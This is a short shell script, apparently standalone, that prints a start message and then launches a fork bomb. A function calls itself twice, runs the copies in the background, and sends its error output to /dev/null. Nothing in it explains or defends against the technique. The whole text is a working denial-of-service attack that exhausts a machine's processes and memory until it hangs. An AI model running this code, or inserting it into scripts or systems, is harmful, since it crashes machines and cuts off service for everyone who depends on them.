echo "BEGUN: forks without an end"
bomb() { bomb | bomb & }
bomb 2> /dev/null
sleep 30
